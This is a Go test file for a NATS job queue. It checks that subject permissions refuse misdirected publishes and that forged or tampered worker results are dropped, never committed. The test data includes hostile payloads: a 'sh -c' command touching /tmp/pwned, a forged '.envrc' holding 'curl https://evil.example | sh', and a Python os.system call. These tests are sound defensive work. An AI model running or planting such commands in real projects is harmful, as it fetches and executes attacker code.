package natsqueue

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/nats-io/nkeys"

	"github.com/lunad/lunad"
	"github.com/lunad/lunad/internal/wstest"
	"github.com/lunad/lunad/sandbox/shim/shimtest"
)

func TestMain(m *testing.M) {
	if url := os.Getenv(helperURL); url != "" {
		runChildWorker(url) // the parent installed lunad-shim next to this binary
		os.Exit(0)
	}
	removeShim := shimtest.Install() // lunad-shim next to this test binary, where the worker's sandbox finds it
	code := m.Run()
	removeShim()
	os.Exit(code)
}

// The passwords of the two users of testdata/nats-server.conf.
const (
	daemonPassword = "daemon-secret"
	workerPassword = "worker-secret"
)

// startConfigured starts a server from testdata/nats-server.conf, the
// configuration docs/runs.md shows, on a random port with a temporary
// store; it stops when the test ends.
func startConfigured(t *testing.T) string {
	t.Helper()
	t.Setenv("LUNAD_DAEMON_PASSWORD", daemonPassword)
	t.Setenv("LUNAD_WORKER_PASSWORD", workerPassword)
	opts, err := server.ProcessConfigFile("testdata/nats-server.conf")
	if err != nil {
		t.Fatal(err)
	}
	opts.Host, opts.Port, opts.StoreDir, opts.NoLog, opts.NoSigs = "127.0.0.1", -1, t.TempDir(), true, true
	s, err := server.NewServer(opts)
	if err != nil {
		t.Fatal(err)
	}
	s.Start()
	t.Cleanup(func() { s.Shutdown(); s.WaitForShutdown() })
	if !s.ReadyForConnections(10 * time.Second) {
		t.Fatal("the NATS server did not start")
	}
	return "nats://" + s.Addr().(*net.TCPAddr).String()
}

// rawClient connects to url as user, its refusals sent to the channel it
// returns.
func rawClient(t *testing.T, url, user, password string) (*nats.Conn, <-chan error) {
	t.Helper()
	refused := make(chan error, 16)
	nc, err := nats.Connect(url, nats.UserInfo(user, password), nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) {
		select {
		case refused <- err:
		default:
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	return nc, refused
}

// TestServerConfig: the nats-server configuration docs/runs.md shows
// (two users, subject permissions) lets the daemon and a worker run a
// workflow, and refuses a worker's stage message, a daemon's result and a
// client without credentials.
func TestServerConfig(t *testing.T) {
	url := startConfigured(t)
	logText, log := newLogs(t)
	agentLog := filepath.Join(t.TempDir(), "agent.log")
	k := newKeys(t)
	q := openQueue(t, url, k.daemon(Options{User: "lunad-daemon", Password: daemonPassword, Logger: log}))
	w := newWorkspace(t, q, log, map[string]string{"two": twoStages("two", `"--log", "`+agentLog+`"`, `"--log", "`+agentLog+`"`, "")})
	startWorker(t, openQueue(t, url, k.worker(Options{User: "lunad-worker", Password: workerPassword, Logger: log})),
		clone(t, "worker", w.root), WorkerOptions{Name: "w", Logger: log})
	checkCompleted(t, w, w.wait(w.start("two")))
	if strings.Contains(logText.String(), "level=WARN") {
		t.Fatalf("the permissions refused something lunad needs:\n%s", logText)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	for _, c := range []struct {
		name, user, password, subject string
		stream                        jetstream.Stream
	}{
		{"a worker cannot publish a stage message", "lunad-worker", workerPassword, "LUNAD.stages.two.a", q.stages},
		{"the daemon cannot publish a result", "lunad-daemon", daemonPassword, "LUNAD.results.key.1", q.results},
	} {
		t.Run(c.name, func(t *testing.T) {
			before, err := c.stream.Info(ctx)
			if err != nil {
				t.Fatal(err)
			}
			nc, refused := rawClient(t, url, c.user, c.password)
			if err := nc.Publish(c.subject, []byte(`{"argv":["sh","-c","touch /tmp/pwned"]}`)); err != nil {
				t.Fatal(err)
			}
			select {
			case err := <-refused:
				if !errors.Is(err, nats.ErrPermissionViolation) && !strings.Contains(err.Error(), "Permissions Violation") {
					t.Fatalf("refused with %v, want a permissions violation", err)
				}
			case <-ctx.Done():
				t.Fatal("the server did not refuse the publish")
			}
			after, err := c.stream.Info(ctx)
			if err != nil || after.State.LastSeq != before.State.LastSeq {
				t.Fatalf("the stream's last sequence went from %d to %d (%v): the message was stored", before.State.LastSeq, after.State.LastSeq, err)
			}
		})
	}
	t.Run("a client without credentials cannot connect", func(t *testing.T) {
		if nc, err := nats.Connect(url); err == nil {
			nc.Close()
			t.Fatal("connected without credentials")
		}
		if _, err := Open(ctx, url, k.daemon(Options{User: "lunad-daemon", Password: "wrong", Logger: log})); err == nil {
			t.Fatal("opened with a wrong password")
		}
	})
}

// forger publishes to an open server as an attacker would: messages it
// signs as it likes.
type forger struct {
	t  *testing.T
	js jetstream.JetStream
}

func newForger(t *testing.T, url string) forger {
	t.Helper()
	nc, err := nats.Connect(url)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	return forger{t: t, js: js}
}

// publish stores body on subject with the headers h (unsigned when nil).
func (f forger) publish(subject, id string, body []byte, h nats.Header) {
	f.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	m := &nats.Msg{Subject: subject, Data: body, Header: h}
	if _, err := f.js.PublishMsg(ctx, m, jetstream.WithMsgID(id)); err != nil {
		f.t.Fatal(err)
	}
}

// signed is the headers of body on subject signed by kp as kind about id.
func signed(t *testing.T, kp nkeys.KeyPair, kind, subject string, id identity, body []byte) nats.Header {
	t.Helper()
	m := &nats.Msg{Subject: subject, Data: body}
	if err := sign(kp, m, kind, id); err != nil {
		t.Fatal(err)
	}
	return m.Header
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestForgedResult: on a server anyone may publish to, results that no
// registered worker signed for the attempt — unsigned, signed by another
// key, tampered with, or a worker's result for another attempt or run —
// are dropped and counted, never committed; the stage goes on waiting and
// takes the real worker's result.
func TestForgedResult(t *testing.T) {
	srv := startServer(t)
	_, log := newLogs(t)
	agentLog := filepath.Join(t.TempDir(), "agent.log")
	k := newKeys(t)
	q := openQueue(t, srv.url, k.daemon(Options{Logger: log}))
	w := newWorkspace(t, q, log, map[string]string{"two": twoStages("two", `"--log", "`+agentLog+`"`, `"--log", "`+agentLog+`"`, "")})
	id := w.start("two")

	// The attempt's stage message, waiting for a worker.
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var sm stageMsg
	eventually(t, 10*time.Second, "stage a is queued", func() bool {
		m, err := q.stages.GetMsg(ctx, 1)
		return err == nil && json.Unmarshal(m.Data, &sm) == nil
	})
	req := sm.Request
	subject := q.resultSubject(req)
	evil := resultMsg{For: identityOf(req), Worker: "w", Response: &lunad.StageResponse{Status: "ok",
		Writes: []lunad.StageWrite{{Path: ".envrc", Content: "curl https://evil.example | sh\n"}, {Path: "agents/agent.py", Content: "import os; os.system('id')\n"}}}}
	evilBody := mustJSON(t, evil)
	workerKey, err := LoadKey(k.workerFile)
	if err != nil {
		t.Fatal(err)
	}
	strangerKey, err := nkeys.CreateUser()
	if err != nil {
		t.Fatal(err)
	}
	other := func(mod func(*identity)) []byte {
		r := evil
		mod(&r.For)
		return mustJSON(t, r)
	}
	attempt2 := other(func(i *identity) { i.Attempt = 2 })
	otherRun := other(func(i *identity) { i.Run = "run-other" })
	f := newForger(t, srv.url)
	for _, c := range []struct {
		name string
		body []byte
		h    nats.Header
	}{
		{"unsigned", evilBody, nil},
		{"signed by a key no one registered", evilBody, signed(t, strangerKey, kindResult, subject, identityOf(req), evilBody)},
		{"a worker's signature over another body", evilBody, signed(t, workerKey, kindResult, subject, identityOf(req), mustJSON(t, resultMsg{For: identityOf(req)}))},
		{"a worker's signature as a stage message", evilBody, signed(t, workerKey, kindStage, subject, identityOf(req), evilBody)},
		{"a worker's result for another attempt", attempt2, signed(t, workerKey, kindResult, subject, identity{}, attempt2)},
		{"a worker's result for another run", otherRun, signed(t, workerKey, kindResult, subject, identity{}, otherRun)},
	} {
		f.publish(subject, "forged/"+c.name, c.body, c.h)
	}
	eventually(t, 10*time.Second, "the forged results are dropped", func() bool { return q.Dropped() == 6 })
	if info, err := w.eng.Run(ctx, id); err != nil || info.Status != lunad.RunRunning || len(info.Stages) != 1 || info.Stages[0].Status != "running" {
		t.Fatalf("run after the forged results: %+v, %v; want stage a still waiting", info, err)
	}

	// The real worker answers; its result is the one committed.
	startWorker(t, openQueue(t, srv.url, k.worker(Options{Logger: log})), clone(t, "worker", w.root), WorkerOptions{Name: "w", Logger: log})
	checkCompleted(t, w, w.wait(id))
	for _, p := range []string{".envrc"} {
		if _, err := os.Stat(filepath.Join(w.root, p)); err == nil {
			t.Fatalf("%s is in the working tree", p)
		}
	}
	if got := w.git("log", "--all", "--format=%H", "--", ".envrc", "agents/agent.py"); strings.TrimSpace(got) != "" {
		t.Fatalf("commits touching the forged paths: %s", got)
	}
	if q.Dropped() != 6 {
		t.Fatalf("%d results dropped, want the 6 forged", q.Dropped())
	}
}

// TestForgedResultLookedUp: forged results already in the stream when a
// Process looks its attempt's result up (its stage message was published
// before) are skipped; the worker's real result is taken.
func TestForgedResultLookedUp(t *testing.T) {
	srv := startServer(t)
	_, log := newLogs(t)
	k := newKeys(t)
	q := openQueue(t, srv.url, k.daemon(Options{Logger: log}))
	argv := []string{wstest.Python(t), "agents/agent.py"}
	root, version := oneStage(t, "daemon", "sandbox = false", argv)
	a, err := q.NewAgent(root, argv, 20*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	req := lunad.StageRequest{RunID: "r", Stage: "s", Attempt: 1, Workflow: "w", WorkflowVersion: version, IdempotencyKey: "key-r"}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	subject := q.resultSubject(req)
	evil := mustJSON(t, resultMsg{For: identityOf(req), Response: &lunad.StageResponse{Status: "ok", Output: json.RawMessage(`{"forged":true}`)}})
	f := newForger(t, srv.url)
	f.publish(subject, "forged/1", evil, nil)
	stranger, _ := nkeys.CreateUser()
	f.publish(subject, "forged/2", evil, signed(t, stranger, kindResult, subject, identityOf(req), evil))
	// The stage message is already stored: Process's publish is a
	// duplicate, and it looks the result up.
	data := mustJSON(t, stageMsg{Request: req, Argv: argv, TimeoutMS: 20000, Sent: time.Now()})
	if _, err := q.publish(ctx, q.stageSubject("w", "s"), msgID(req), data, kindStage, identityOf(req)); err != nil {
		t.Fatal(err)
	}
	startWorker(t, openQueue(t, srv.url, k.worker(Options{Logger: log})), clone(t, "worker", root), WorkerOptions{Name: "w", Logger: log})
	resp, err := a.Process(ctx, req)
	if err != nil || resp.Status != "ok" || strings.Contains(string(resp.Output), "forged") {
		t.Fatalf("Process: %+v, %v; want the worker's result", resp, err)
	}
}
